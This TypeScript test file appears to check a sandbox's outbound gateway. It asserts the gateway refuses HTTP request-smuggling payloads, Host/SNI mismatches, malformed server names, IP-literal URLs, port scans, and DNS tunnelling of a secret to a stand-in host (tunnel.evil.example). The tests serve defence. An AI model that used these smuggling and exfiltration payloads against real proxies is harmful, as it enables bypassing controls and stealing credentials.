import { createSocket } from 'node:dgram';
import type { IncomingHttpHeaders } from 'node:http';

import { beforeAll, beforeEach, describe, expect, it } from 'vitest';

import type { Json } from '../../libs/testing/index.js';
import type { TestScript } from '../support/scripts.js';
import { aGatedAttacker } from './support/gated.js';

const attacker = aGatedAttacker();
const SECRET = 'sk_live_requests_4f81';

interface Heard {
  method: string;
  url: string;
  headers: IncomingHttpHeaders;
  rawHeaders: string[];
  body: string;
}

let heard: Heard[] = [];
let port: number;
/** Asks with the bytes `send` and the server name `name`, or says hello with `send` as the server name. */
let raw: TestScript;

beforeAll(async () => {
  port = await attacker.upstreams.start(
    (request, response) => {
      let body = '';
      request.on('data', (chunk: Buffer) => (body += chunk.toString()));
      request.on('end', () => {
        const { method = '', url = '', headers, rawHeaders } = request;
        heard.push({ method, url, headers, rawHeaders, body });
        response.end('heard');
      });
    },
    { names: ['localhost', 'other.localhost', 'xn--bcher-kva.localhost'] },
  );
  await attacker.secret('API_KEY', SECRET, [`localhost:${port}`]);
  raw = await attacker.script(
    `
i = inputs(); sent = base64.b64decode(i["send"])
print(json.dumps(outcome(ask, i["port"], sent.decode("latin1"), i.get("name")) if i["how"] == "ask" else [outcome(hello, i["port"], sent)]))`,
    {
      hosts: [`localhost:${port}`, `*.localhost:${port}`, `bücher.localhost:${port}`],
      secrets: { API_KEY: { header: 'authorization', value: 'Bearer {secret}', host: `localhost:${port}` } },
    },
  );
});

beforeEach(() => {
  heard = [];
});

interface Said {
  answer: Json;
  log: string;
  network: Json;
}

async function send(
  bytes: string,
  { name = 'localhost' as string | null, to = port, how = 'ask' } = {},
): Promise<Said> {
  const end = await attacker.run(raw, { port: to, send: Buffer.from(bytes).toString('base64'), name, how });
  expect(end).toMatchObject({ status: 'succeeded' });
  return { answer: end.output, log: await attacker.log(end.id), network: end.network };
}

const host = (): string => `Host: localhost:${port}\r\n`;

it('a request as it should be passes, with the secret', async () => {
  const { answer, log } = await send(`GET /a?b=c HTTP/1.1\r\n${host()}\r\n`);
  expect(answer.status).toBe(200);
  expect(heard).toMatchObject([{ url: '/a?b=c', headers: { authorization: `Bearer ${SECRET}` } }]);
  expect(log).toBe('');
});

describe('a host that is not declared', () => {
  it('is refused by its server name, and said in the log', async () => {
    const { answer, log, network } = await send('GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n', {
      name: 'evil.example',
      to: 443,
    });
    expect(answer.status).toBe(403);
    expect(answer.text).toContain('evil.example');
    expect(log).toContain('gate: refused a request to evil.example: the host is not declared');
    expect(network).toMatchObject([{ host: 'evil.example', requests: 0, denied: 1 }]);
    expect(heard).toEqual([]);
  });

  it.each(['localhost', 'sub.localhost', 'notlocalhost', 'localhost.evil.example'])(
    'is refused although it looks like a declared one: %s on 443',
    async (name) => {
      const { answer } = await send(`GET / HTTP/1.1\r\nHost: ${name}\r\n\r\n`, { name, to: 443 });
      expect(answer.status).toBe(403);
      expect(heard).toEqual([]);
    },
  );
});

it('no SNI is refused', async () => {
  const { answer, log } = await send(`GET / HTTP/1.1\r\n${host()}\r\n`, { name: null });
  expect(answer.status).toBe(421);
  expect(log).toContain('it names no host (TLS server name)');
  expect(heard).toEqual([]);
});

it('an IP URL is refused, by any client', async () => {
  const found = await attacker.attempt(
    `
import urllib.request
def fetch(url): return urllib.request.urlopen(url, timeout=5).status
curl = lambda *options: subprocess.run(["curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}", *options], capture_output=True, text=True).stdout
print(json.dumps({
  "urllib": str(outcome(fetch, "https://127.0.0.1:${port}/")),
  "curl": curl("https://127.0.0.1:${port}/"), "insecure": curl("-k", "https://127.0.0.1:${port}/"),
  "v6": curl("-k", "https://[::1]:${port}/"), "public": curl("-k", "https://1.1.1.1/"),
  "decimal": curl("-k", "https://2130706433:${port}/"),
}))`,
    { hosts: [`localhost:${port}`] },
  );
  expect(found.output).toMatchObject({
    curl: '000',
    insecure: '421',
    v6: '000',
    public: '000',
    decimal: '421',
  });
  expect(found.output.urllib).toMatch(/CERTIFICATE_VERIFY_FAILED|certificate/i);
  expect(heard).toEqual([]);
});

describe('SNI and Host that differ', () => {
  it.each([
    ['another declared host', () => `other.localhost:${port}`],
    ['an undeclared host', () => 'evil.example'],
    ['another port', () => `localhost:${port + 1}`],
    ['no port', () => 'localhost'],
    ['a user in front', () => `evil@localhost:${port}`],
    ['a list', () => `localhost:${port}, evil.example`],
    ['a dot at the end', () => `localhost.:${port}`],
    ['nothing', () => ''],
  ])('are refused: %s', async (_, given) => {
    const { answer, log } = await send(`GET / HTTP/1.1\r\nHost: ${given()}\r\n\r\n`);
    expect(answer.status).toBe(421);
    expect(log).toContain("does not match the connection's host");
    expect(heard).toEqual([]);
  });

  it('never bring the secret of one declared host to another', async () => {
    const { answer } = await send(`GET / HTTP/1.1\r\n${host()}\r\n`, { name: 'other.localhost' });
    expect(answer.status).toBe(421);
    expect(heard).toEqual([]);
  });
});

describe('a request that two readers may take for different things', () => {
  const GET = (more: string, target = '/'): string => `GET ${target} HTTP/1.1\r\n${host()}${more}\r\n`;
  const POST = (more: string, body: string): string => `POST / HTTP/1.1\r\n${host()}${more}\r\n${body}`;
  const SMUGGLED = `GET /smuggled HTTP/1.1\r\nHost: localhost\r\n\r\n`;

  it.each<[string, () => string, number]>([
    ['two Hosts', () => GET(host()), 400],
    ['two Hosts that differ', () => GET('Host: evil.example\r\n'), 400],
    ['no Host', () => 'GET / HTTP/1.1\r\n\r\n', 400],
    ['absolute form', () => GET('', `https://localhost:${port}/`), 400],
    ['absolute form of another host', () => GET('', 'https://evil.example/'), 400],
    ['a target without a slash', () => GET('', 'evil.example'), 400],
    ['an asterisk as target', () => `OPTIONS * HTTP/1.1\r\n${host()}\r\n`, 400],
    ['CONNECT in TLS', () => `CONNECT evil.example:443 HTTP/1.1\r\n${host()}\r\n`, 405],
    ['CONNECT with an absolute path', () => `CONNECT / HTTP/1.1\r\n${host()}\r\n`, 405],
    ['TRACE', () => `TRACE / HTTP/1.1\r\n${host()}\r\n`, 405],
    ['TRACK', () => `TRACK / HTTP/1.1\r\n${host()}\r\n`, 405],
    [
      'TE and CL',
      () => POST('Content-Length: 5\r\nTransfer-Encoding: chunked\r\n', `0\r\n\r\n${SMUGGLED}`),
      400,
    ],
    [
      'CL and TE',
      () => POST('Transfer-Encoding: chunked\r\nContent-Length: 50\r\n', `0\r\n\r\n${SMUGGLED}`),
      400,
    ],
    ['two lengths', () => POST('Content-Length: 0\r\nContent-Length: 40\r\n', SMUGGLED), 400],
    ['a list of lengths', () => POST('Content-Length: 0, 40\r\n', SMUGGLED), 400],
    ['a length with a sign', () => POST('Content-Length: +5\r\n', 'abcde'), 400],
    ['TE in disguise', () => POST('Transfer-Encoding: xchunked\r\n', `0\r\n\r\n${SMUGGLED}`), 400],
    [
      'TE twice',
      () => POST('Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n', `0\r\n\r\n`),
      400,
    ],
    ['TE in two codings', () => POST('Transfer-Encoding: gzip, chunked\r\n', '0\r\n\r\n'), 400],
    ['TE before a blank', () => POST('Transfer-Encoding : chunked\r\n', `0\r\n\r\n${SMUGGLED}`), 400],
    ['a folded header', () => GET('X-A: b\r\n Transfer-Encoding: chunked\r\n'), 400],
    ['a bare line feed', () => `GET / HTTP/1.1\nHost: localhost:${port}\n\n`, 400],
    ['a bare carriage return', () => GET('X-A: b\rHost: evil.example\r\n'), 400],
    ['NUL in a header', () => GET('X-A: b\0c\r\n'), 400],
    ['HTTP/0.9', () => 'GET /\r\n\r\n', 400],
    ['HTTP/2 with prior knowledge', () => 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 400],
    ['another protocol', () => GET('Connection: upgrade\r\nUpgrade: h2c\r\n'), 400],
  ])('is refused: %s', async (_, request, status) => {
    const { answer, log } = await send(request());
    expect(answer).toMatchObject({ status, answers: 1 });
    // What follows cannot be told apart from the request, unless it was only its method.
    if (status === 400) expect(answer.closed).toBe(true);
    expect(log).toMatch(/^gate: refused a request to localhost:\d+: /);
    expect(heard.map(({ url }) => url)).not.toContain('/smuggled');
    expect(heard.filter(({ body }) => body !== '')).toEqual([]);
    expect(answer.text).not.toContain(SECRET);
  });

  it('is broken off where it became one after its head had passed: a length of chunk that overflows', async () => {
    const { answer, log } = await send(
      POST('Transfer-Encoding: chunked\r\n', `fffffffffffffffff\r\n${SMUGGLED}`),
    );
    expect(answer).toMatchObject({ status: null, answers: 0, closed: true });
    expect(log).toContain('the request is not proper HTTP/1.1');
    expect(heard).toEqual([]);
  });

  it('is refused also as the second on a connection that was good', async () => {
    const { answer } = await send(
      `GET /first HTTP/1.1\r\n${host()}\r\n` + `GET /second HTTP/1.1\r\nHost: evil.example\r\n\r\n`,
    );
    expect(answer.text).toContain('heard');
    expect(heard.map(({ url }) => url)).toEqual(['/first']);
  });
});

describe('headers that steer the way', () => {
  it('Connection: authorization neither strips nor doubles the secret', async () => {
    const more =
      'Connection: authorization, close, host\r\nAuthorization: Bearer mine\r\nAUTHORIZATION: x\r\n';
    const { answer } = await send(`GET / HTTP/1.1\r\n${host()}${more}\r\n`);
    expect(answer.status).toBe(200);
    const names = heard[0]!.rawHeaders
      .filter((_, index) => index % 2 === 0)
      .map((name) => name.toLowerCase());
    expect(names.filter((name) => name === 'authorization')).toHaveLength(1);
    expect(names.filter((name) => name === 'host')).toHaveLength(1);
    expect(heard[0]!.headers).toMatchObject({ authorization: `Bearer ${SECRET}`, host: `localhost:${port}` });
    expect(JSON.stringify(heard)).not.toContain('mine');
  });

  it('hop-by-hop ones stay at the gate', async () => {
    const more =
      'Keep-Alive: 300\r\nProxy-Authorization: Basic eA==\r\nProxy-Connection: keep-alive\r\nTE: trailers\r\nX-Hop: 1\r\nConnection: x-hop\r\n';
    await send(`GET / HTTP/1.1\r\n${host()}${more}\r\n`);
    expect(Object.keys(heard[0]!.headers).sort()).toEqual(
      ['accept-encoding', 'authorization', 'connection', 'host'].sort(),
    );
  });

  it('a trailer cannot bring another credential', async () => {
    const body =
      'Trailer: authorization\r\nTransfer-Encoding: chunked\r\n\r\n1\r\nx\r\n0\r\nAuthorization: mine\r\n\r\n';
    const { answer } = await send(`POST / HTTP/1.1\r\n${host()}${body}`);
    expect(answer.status).toBe(200);
    expect(heard).toMatchObject([{ body: 'x', headers: { authorization: `Bearer ${SECRET}` } }]);
  });
});

describe('a server name that is none', () => {
  it.each<[string, string]>([
    ['NUL', 'localhost\0.evil.example'],
    ['NUL at the end', 'localhost\0'],
    ['a trailing dot', 'localhost.'],
    ['an IDN in UTF-8', 'bücher.localhost'],
    ['full-width letters', 'ｌocalhost'],
    ['300 characters', 'a'.repeat(300)],
    ['300 characters in labels', `${'abcdefghi.'.repeat(29)}localhost`],
    ['254 characters in labels', `${'a.'.repeat(126)}bb`],
    ['a label of 64', `${'a'.repeat(64)}.localhost`],
    ['an address', '127.0.0.1'],
    ['an address in hexadecimal', '0x7f000001'],
    ['a wildcard', '*.localhost'],
    ['a port', 'localhost:443'],
    ['a path', 'localhost/..'],
    ['a line break', 'localhost\r\nX: y'],
    ['a blank', 'local host'],
    ['an empty label', 'a..localhost'],
  ])('gets no certificate: %s', async (_, name) => {
    const { answer, log } = await send(name, { how: 'hello' });
    expect(answer[0]).toMatch(/^(alert|closed|ECONNRESET)$/);
    expect(heard).toEqual([]);
    expect(log).toMatch(/^gate: refused a (request|connection)[^\n]*$/);
  });

  it('is no reason to refuse a name in capitals, or an IDN as punycode', async () => {
    const upper = await send(`GET / HTTP/1.1\r\nHost: LOCALHOST:${port}\r\n\r\n`, { name: 'LocalHost' });
    expect(upper.answer.status).toBe(200);
    const name = 'xn--bcher-kva.localhost';
    const idn = await send(`GET / HTTP/1.1\r\nHost: ${name}:${port}\r\n\r\n`, { name });
    expect(idn.answer.status).toBe(200);
    expect(heard.map(({ headers }) => headers.authorization)).toEqual([`Bearer ${SECRET}`, undefined]);
  });
});

describe('other ways out', () => {
  it('port 80 and every other port are closed', async () => {
    const open = await attacker.findings(
      `
found = []
for port in range(1, 65536):
    s = socket.socket()
    if s.connect_ex(("127.0.0.1", port)) == 0 and s.getsockname() != s.getpeername(): found.append(port)
    s.close()
print(json.dumps(found))`,
      { hosts: [`localhost:${port}`] },
    );
    expect(open).toEqual([443, port].sort((one, other) => one - other));
  });

  it('plain HTTP gets nowhere on the open ones', async () => {
    const end = await attacker.attempt(
      `
s = socket.create_connection(("127.0.0.1", ${port}), 5); s.sendall(b"GET / HTTP/1.1\\r\\nHost: localhost\\r\\n\\r\\n")
try: print(len(s.recv(100)) if s.recv(100) == b"" else "answered")
except OSError as error: print(0)`,
      { hosts: [`localhost:${port}`] },
    );
    expect(end.output).toBe(0);
    expect(await attacker.log(end.id)).toContain('it speaks plain HTTP; only HTTPS passes the gate');
    expect(heard).toEqual([]);
  });

  it('UDP and DNS tunnelling lead nowhere: every name is this sandbox, and no query leaves it', async () => {
    const outside = createSocket('udp4');
    await new Promise<void>((done) => outside.bind(0, '127.0.0.1', done));
    let datagrams = 0;
    outside.on('message', () => (datagrams += 1));
    const found = await attacker.findings(
      `
def query(name, kind):
    q = b"\\x12\\x34\\x01\\0\\0\\1\\0\\0\\0\\0\\0\\0" + b"".join(bytes([len(l)]) + l for l in name.split(b".")) + b"\\0" + struct.pack(">HH", kind, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(20); s.connect(("127.0.0.1", 53)); s.send(q)
    answer = s.recv(4096)
    return [struct.unpack(">H", answer[6:8])[0], list(answer[-4:])] if struct.unpack(">H", answer[6:8])[0] else [0]
def sent(host, port): return socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secret", (host, port))
data = b"c2VjcmV0LWluLWEtbmFtZQ.tunnel.evil.example"
print(json.dumps({
  "address": query(data, 1), "text": query(data, 16), "any": query(data, 255), "v6": query(data, 28), "null": query(data, 10),
  "names": socket.gethostbyname("c2VjcmV0.tunnel.evil.example"),
  "tcp": outcome(socket.create_connection, ("127.0.0.1", 53)),
  "udp": [outcome(sent, "8.8.8.8", 53), outcome(sent, "1.1.1.1", 443), outcome(sent, "10.0.0.1", 53)],
  "loopback": outcome(sent, "127.0.0.1", ${outside.address().port}),
}))`,
      { hosts: [`localhost:${port}`] },
    );
    expect(found).toEqual({
      address: [1, [127, 0, 0, 1]],
      text: [0],
      any: [0],
      v6: [0],
      null: [0],
      names: '127.0.0.1',
      tcp: 'ECONNREFUSED',
      udp: ['ENETUNREACH', 'ENETUNREACH', 'ENETUNREACH'],
      loopback: 6,
    });
    expect(datagrams).toBe(0);
    outside.close();
  });
});
